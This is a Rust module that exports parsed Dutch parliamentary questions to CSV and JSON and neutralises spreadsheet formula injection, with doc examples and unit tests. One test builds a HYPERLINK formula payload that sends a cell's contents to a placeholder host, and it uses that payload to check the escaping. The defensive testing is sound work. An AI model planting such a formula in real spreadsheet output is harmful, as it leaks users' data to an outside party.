//! Exports of parsed documents for spreadsheets and other tools: CSV (RFC 4180, UTF-8
//! with byte-order mark), JSON Lines and a JSON array. Pure core: the CLI and the web
//! app's download buttons both call these.

use crate::model::{Kamervraag, Person};
use std::borrow::Cow;

/// The CSV columns, in order.
pub const CSV_COLUMNS: [&str; 12] = [
    "vraagnummer",
    "title",
    "submitted",
    "answered",
    "delay_days",
    "submitters",
    "parties",
    "answerers",
    "topics",
    "questions",
    "answered_questions",
    "source",
];

/// Separator of the values in a multi-valued CSV cell.
pub const MULTI_VALUE_SEPARATOR: &str = "; ";

/// The UTF-8 byte-order mark that makes spreadsheet programs read the CSV as UTF-8.
pub const UTF8_BOM: &str = "\u{FEFF}";

/// The first characters that make a spreadsheet program read a cell as a formula
/// (`=`, `+`, `-`, `@`) or that it drops before reading one (tab, carriage return).
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` is a plain number (`-3`, `+12`, `4.5`, `-0,25`): an optional sign,
/// digits, and at most one decimal point or comma followed by digits. A spreadsheet
/// reads such a cell as a number, never as a formula.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = match digits.split_once(['.', ',']) {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

/// A CSV cell as a spreadsheet program may open it safely: a cell that begins with
/// one of the [`FORMULA_STARTS`] gets a single quote in front, so Excel and
/// LibreOffice show it as text instead of evaluating it. Plain numbers such as `-3`
/// stay numbers. Every CSV the product writes passes each cell through this.
///
/// ```
/// use kamervraag::export::spreadsheet_safe;
/// assert_eq!(spreadsheet_safe("=HYPERLINK(\"https://x\")"), "'=HYPERLINK(\"https://x\")");
/// assert_eq!(spreadsheet_safe("@SUM(A1)"), "'@SUM(A1)");
/// assert_eq!(spreadsheet_safe("\tx"), "'\tx");
/// assert_eq!(spreadsheet_safe("-3"), "-3");
/// assert_eq!(spreadsheet_safe("-2+3"), "'-2+3");
/// assert_eq!(spreadsheet_safe("Rutte IV"), "Rutte IV");
/// ```
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether a spreadsheet program opens `cell` (as read back from a CSV) without
/// evaluating it: it does not begin with one of the [`FORMULA_STARTS`], or it is a
/// plain number. Every cell [`spreadsheet_safe`] returns is inert.
///
/// ```
/// use kamervraag::export::is_inert_cell;
/// assert!(is_inert_cell("'=1+1"));
/// assert!(is_inert_cell("-3"));
/// assert!(!is_inert_cell("=1+1"));
/// ```
pub fn is_inert_cell(cell: &str) -> bool {
    !cell.starts_with(FORMULA_STARTS) || is_plain_number(cell)
}

/// Writes `cells` as one CSV record, each cell made [`spreadsheet_safe`]. Writing to
/// memory cannot fail; a failed record would only be left out.
pub fn write_safe_record<W: std::io::Write, I, S>(writer: &mut csv::Writer<W>, cells: I)
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let safe: Vec<String> = cells
        .into_iter()
        .map(|cell| spreadsheet_safe(cell.as_ref()).into_owned())
        .collect();
    let _ = writer.write_record(&safe);
}

fn people(persons: &[Person]) -> String {
    persons
        .iter()
        .map(Person::display_with_party)
        .collect::<Vec<_>>()
        .join(MULTI_VALUE_SEPARATOR)
}

/// The CSV cells of one document, in the order of [`CSV_COLUMNS`]. Missing values are
/// empty cells; persons are written `Name (PARTY)`.
///
/// ```
/// use kamervraag::export::csv_record;
/// use kamervraag::model::{Kamervraag, Person};
/// let doc = Kamervraag {
///     id: Some("2024Z00001".into()),
///     submitters: vec![
///         Person { name: "Ann Tester".into(), party: Some("D66".into()), positions: vec![] },
///         Person { name: "Bo Proef".into(), party: None, positions: vec![] },
///     ],
///     ..Kamervraag::default()
/// };
/// let cells = csv_record(&doc);
/// assert_eq!(cells[0], "2024Z00001");
/// assert_eq!(cells[5], "Ann Tester (D66); Bo Proef");
/// assert_eq!(cells[6], "D66");
/// assert_eq!(cells[9], "0");
/// ```
pub fn csv_record(doc: &Kamervraag) -> [String; 12] {
    [
        doc.id.clone().unwrap_or_default(),
        doc.title.clone().unwrap_or_default(),
        doc.submitted.map(|d| d.to_string()).unwrap_or_default(),
        doc.answered.map(|d| d.to_string()).unwrap_or_default(),
        doc.delay_days.map(|d| d.to_string()).unwrap_or_default(),
        people(&doc.submitters),
        doc.submitter_parties().join(MULTI_VALUE_SEPARATOR),
        people(&doc.answerers),
        doc.topics.join(MULTI_VALUE_SEPARATOR),
        doc.questions.len().to_string(),
        doc.answered_question_count().to_string(),
        doc.source.clone().unwrap_or_default(),
    ]
}

/// All documents as CSV text: byte-order mark, header row, one row per document,
/// RFC 4180 quoting and `\r\n` record ends; cells that would start a formula are
/// made [`spreadsheet_safe`].
///
/// ```
/// use kamervraag::export::documents_to_csv;
/// use kamervraag::model::Kamervraag;
/// let doc = Kamervraag { title: Some("Over \"x\", y".into()), ..Kamervraag::default() };
/// let csv = documents_to_csv(&[doc]);
/// assert!(csv.starts_with("\u{FEFF}vraagnummer,title,"));
/// assert!(csv.contains(",\"Over \"\"x\"\", y\","));
/// assert!(csv.ends_with("\r\n"));
/// ```
pub fn documents_to_csv(docs: &[Kamervraag]) -> String {
    let mut csv = DocumentCsv::new(Vec::new());
    for doc in docs {
        csv.write(doc);
    }
    let bytes = csv.finish().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// The CSV of [`documents_to_csv`] written one document at a time to `W`, so a
/// long run of documents never has to be in memory at once.
///
/// ```
/// use kamervraag::export::{documents_to_csv, DocumentCsv};
/// use kamervraag::model::Kamervraag;
/// let doc = Kamervraag { title: Some("=1+1".into()), ..Kamervraag::default() };
/// let mut csv = DocumentCsv::new(Vec::new());
/// csv.write(&doc);
/// let bytes = csv.finish().unwrap();
/// assert_eq!(String::from_utf8(bytes).unwrap(), documents_to_csv(&[doc]));
/// ```
pub struct DocumentCsv<W: std::io::Write> {
    writer: csv::Writer<W>,
}

impl<W: std::io::Write> DocumentCsv<W> {
    /// Starts the CSV: the byte-order mark and the header row.
    pub fn new(mut out: W) -> DocumentCsv<W> {
        // An error writing the mark shows again, and is reported, at `finish`.
        let _ = out.write_all(UTF8_BOM.as_bytes());
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(out);
        write_safe_record(&mut writer, CSV_COLUMNS);
        DocumentCsv { writer }
    }

    /// Writes the row of one document.
    pub fn write(&mut self, doc: &Kamervraag) {
        write_safe_record(&mut self.writer, csv_record(doc));
    }

    /// Flushes the rows and returns the output, or the error that stopped writing.
    pub fn finish(self) -> std::io::Result<W> {
        self.writer
            .into_inner()
            .map_err(|e| std::io::Error::other(e.error().to_string()))
    }
}

/// All documents as JSON Lines: one compact JSON object (schema `kamervraag/1`) per
/// line, each line ending in `\n`.
///
/// ```
/// use kamervraag::export::documents_to_json_lines;
/// use kamervraag::model::Kamervraag;
/// let text = documents_to_json_lines(&[Kamervraag::default(), Kamervraag::default()]);
/// assert_eq!(text.lines().count(), 2);
/// assert!(text.starts_with("{\"schema\":\"kamervraag/1\""));
/// ```
pub fn documents_to_json_lines(docs: &[Kamervraag]) -> String {
    let mut text = String::new();
    for doc in docs {
        text.push_str(&doc.to_json());
        text.push('\n');
    }
    text
}

/// All documents as one JSON array, pretty-printed when `pretty`.
///
/// ```
/// use kamervraag::export::documents_to_json_array;
/// use kamervraag::model::Kamervraag;
/// let text = documents_to_json_array(&[Kamervraag::default()], false);
/// let back: Vec<Kamervraag> = serde_json::from_str(&text).unwrap();
/// assert_eq!(back, vec![Kamervraag::default()]);
/// ```
pub fn documents_to_json_array(docs: &[Kamervraag], pretty: bool) -> String {
    let result = if pretty {
        serde_json::to_string_pretty(docs)
    } else {
        serde_json::to_string(docs)
    };
    result.unwrap_or_else(|_| "[]".to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Date, Question};

    fn sample() -> Kamervraag {
        Kamervraag {
            id: Some("2024Z00002".into()),
            title: Some("Regel één\nregel twee, met \"aanhalingstekens\"".into()),
            submitted: Date::from_ymd(2024, 1, 5),
            answered: Date::from_ymd(2024, 2, 1),
            delay_days: Some(27),
            topics: vec!["politie, brandweer en hulpdiensten".into(), "recht".into()],
            questions: vec![
                Question {
                    number: 1,
                    text: "Vraag?".into(),
                    answer: Some("Ja.".into()),
                    see_answer: None,
                    see_answers: Vec::new(),
                },
                Question {
                    number: 2,
                    text: "Nog een?".into(),
                    answer: None,
                    see_answer: None,
                    see_answers: Vec::new(),
                },
            ],
            source: Some("map/a.txt".into()),
            ..Kamervraag::default()
        }
    }

    #[test]
    fn csv_round_trips_through_a_reader() {
        let text = documents_to_csv(&[sample()]);
        let body = text.strip_prefix(UTF8_BOM).unwrap();
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(header, CSV_COLUMNS);
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 1);
        let row = &rows[0];
        assert_eq!(&row[1], "Regel één\nregel twee, met \"aanhalingstekens\"");
        assert_eq!(&row[2], "2024-01-05");
        assert_eq!(&row[4], "27");
        assert_eq!(&row[8], "politie, brandweer en hulpdiensten; recht");
        assert_eq!(&row[9], "2");
        assert_eq!(&row[10], "1");
        assert_eq!(&row[11], "map/a.txt");
    }

    #[test]
    fn empty_collection_has_only_the_header() {
        assert_eq!(
            documents_to_csv(&[]),
            format!("{UTF8_BOM}{}\r\n", CSV_COLUMNS.join(","))
        );
        assert_eq!(documents_to_json_lines(&[]), "");
        assert_eq!(documents_to_json_array(&[], true), "[]");
    }

    /// The cells of a CSV text read back as a spreadsheet program would split them.
    fn read_back(csv: &str) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv.trim_start_matches(UTF8_BOM).as_bytes());
        reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn every_formula_start_gets_a_quote_in_every_text_cell() {
        for start in FORMULA_STARTS {
            let payload = format!("{start}HYPERLINK(\"https://example.invalid/?\"&A2;\"x\")");
            let person = Person {
                name: payload.clone(),
                party: Some(format!("{start}PARTIJ")),
                positions: vec![],
            };
            let doc = Kamervraag {
                id: Some(payload.clone()),
                title: Some(payload.clone()),
                submitters: vec![person.clone()],
                answerers: vec![person],
                topics: vec![payload.clone()],
                source: Some(payload.clone()),
                ..Kamervraag::default()
            };
            let rows = read_back(&documents_to_csv(&[doc]));
            let row = &rows[1];
            let quoted = format!("'{payload}");
            for column in [0, 1, 8, 11] {
                assert_eq!(
                    row[column], quoted,
                    "{start:?} column {}",
                    CSV_COLUMNS[column]
                );
            }
            for column in [5, 6, 7] {
                assert!(row[column].starts_with('\''), "{start:?} {}", row[column]);
            }
            for cell in row {
                assert!(is_inert_cell(cell), "{start:?} {cell:?}");
            }
        }
    }

    #[test]
    fn numbers_stay_numbers() {
        let doc = Kamervraag {
            delay_days: Some(-3),
            title: Some("-3".into()),
            ..Kamervraag::default()
        };
        let rows = read_back(&documents_to_csv(&[doc]));
        assert_eq!(rows[1][4], "-3");
        assert_eq!(rows[1][1], "-3");
        assert_eq!(rows[1][9], "0");
        for number in ["-3", "+3", "-0.5", "-12,25", "42"] {
            assert_eq!(spreadsheet_safe(number), number);
        }
        for not_a_number in ["-", "+", "-3-", "-3.", "-.5", "-1,2,3", "-3e5", "+1 2"] {
            assert_eq!(spreadsheet_safe(not_a_number), format!("'{not_a_number}"));
        }
    }

    #[test]
    fn other_cells_are_left_alone() {
        for cell in ["", "Rutte IV", "'=al gequote", " =met spatie", "€5", "a=b"] {
            assert_eq!(spreadsheet_safe(cell), cell);
        }
    }
}
